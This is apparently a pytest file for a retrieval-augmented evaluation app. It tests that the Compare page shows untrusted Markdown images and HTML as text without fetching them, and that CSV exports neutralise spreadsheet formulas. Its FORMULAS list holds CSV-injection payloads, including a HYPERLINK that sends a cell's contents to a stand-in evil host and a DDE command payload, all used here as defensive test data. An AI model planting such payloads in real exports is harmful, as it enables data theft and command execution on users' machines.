"""Untrusted text on the Compare page and in its exports (issue #13 items 1 and 5).

Questions, answers, references, document names, citation labels and errors come from files, documents and
models: the page shows them as text (a Markdown image in them is never fetched), and the CSV exports keep a
spreadsheet from running them as formulas.
"""

import csv
import io
import json

import pytest
from playwright.sync_api import expect
from ui import goto_page, wait_idle

from rag_ft.evaluation import (
    AnswerRecord,
    EvalQuestion,
    EvalStore,
    RunConfig,
    RunOptions,
    export_csv,
    export_jsonl,
    question_dict,
    results_rows,
    rows_to_csv,
)

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\tindented", "\rreturned"]


def parsed(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_results_csv_neutralises_formula_cells(settings):
    store = EvalStore(settings.db_path)
    set_id = store.create_set("S", [EvalQuestion(f) for f in FORMULAS])
    run_id = store.create_run(set_id, [RunConfig("=cfg", "m")], RunOptions())
    questions = store.questions(set_id)
    for q in questions:  # the answer repeats the question: a model's output is as untrusted as a document
        store.save_result(run_id, AnswerRecord(0, q.id, q.question, total_s=1.5, cost=0.0))
    rows = results_rows(store.get_run(run_id), questions, store.results(run_id))
    got = parsed(rows_to_csv(rows))
    assert [r["question"] for r in got] == ["'" + f for f in FORMULAS]
    assert [r["answer"] for r in got] == ["'" + f for f in FORMULAS]
    assert {r["configuration"] for r in got} == {"'=cfg"}
    assert {r["total (s)"] for r in got} == {"1.5"} and {r["cost ($)"] for r in got} == {"0.0"}  # numbers stay
    rows[0]["rank delta"] = -3  # a negative number is a number, not a formula
    assert parsed(rows_to_csv(rows))[0]["rank delta"] == "-3"
    assert rows_to_csv([]) == ""
    store.close()


def test_set_exports_csv_neutralised_jsonl_exact():
    q = EvalQuestion(FORMULAS[0], reference=FORMULAS[1], document="@evil.pdf", pages=[3, 4], section="-2+3")
    plain = EvalQuestion("How long do refunds take?", "14 days", "faq.md", [1])
    row, other = parsed(export_csv([q, plain]))
    assert (row["question"], row["answer"], row["document"], row["section"]) == (
        "'" + FORMULAS[0], "'" + FORMULAS[1], "'@evil.pdf", "'-2+3")
    assert row["pages"] == "3,4" and row["answerable"] == "True"
    assert other == {"question": "How long do refunds take?", "answer": "14 days", "document": "faq.md",
                     "pages": "1", "section": "", "answerable": "True"}
    # JSONL is data for programs, not a spreadsheet: every character kept
    assert [json.loads(line) for line in export_jsonl([q, plain]).splitlines()] == [question_dict(q),
                                                                                   question_dict(plain)]


@pytest.mark.browser
def test_images_in_questions_answers_and_names_are_shown_not_fetched(page, app_server, listener):
    base, data = app_server
    port = listener.server_address[1]

    def img(tag: str) -> str:
        return f"![x](http://127.0.0.1:{port}/{tag})"

    store = EvalStore(data / "studio.sqlite3")
    set_id = store.create_set(f"Unsafe set {img('set')}", [EvalQuestion(
        f"Which refund rule applies? {img('question')}", f"Fourteen days {img('reference')}",
        f"{img('document')}.pdf", [2])])
    try:
        qid = store.questions(set_id)[0].id
        run_id = store.create_run(set_id, [RunConfig(f"Mine {img('label')}", f"model {img('model')}", rag=True)],
                                  RunOptions(style_pattern=""), name=f"Run {img('run')}")
        store.save_result(run_id, AnswerRecord(
            0, qid, f"Refunds take 14 days {img('answer')} [1]\n\n<img src=\"http://127.0.0.1:{port}/html\">",
            citations=[{"marker": 1, "document": f"{img('citation')}.md", "pages": [2], "supported": False,
                        "attached": False, "support": [0.1], "sentences": []}],
            error=f"cut short {img('error')}", ttft_s=0.2, total_s=1.0, metrics={"f1": 0.5}))
        store.set_status(run_id, "stopped", f"stopped {img('run-error')}")

        page.goto(base)
        wait_idle(page)
        goto_page(page, "Compare", "compare")
        expect(page.get_by_text("One question, side by side")).to_be_visible()
        # the newest set, its one run and its one question are the ones selected
        answer = page.get_by_text(f"Refunds take 14 days {img('answer')}")
        expect(answer).to_be_visible()
        for shown in (f"Fourteen days {img('reference')}", f"[1] {img('citation')}.md p. 2",
                      f"cut short {img('error')}", f"stopped {img('run-error')}", f"Mine {img('label')}"):
            expect(page.get_by_text(shown, exact=False).first).to_be_visible()
        expect(page.get_by_text("<img src=", exact=False).first).to_be_visible()  # raw HTML is text too
        page.wait_for_timeout(1500)  # time for any image request to arrive
        assert listener.hits == []
    finally:
        store.delete_set(set_id)
        store.close()
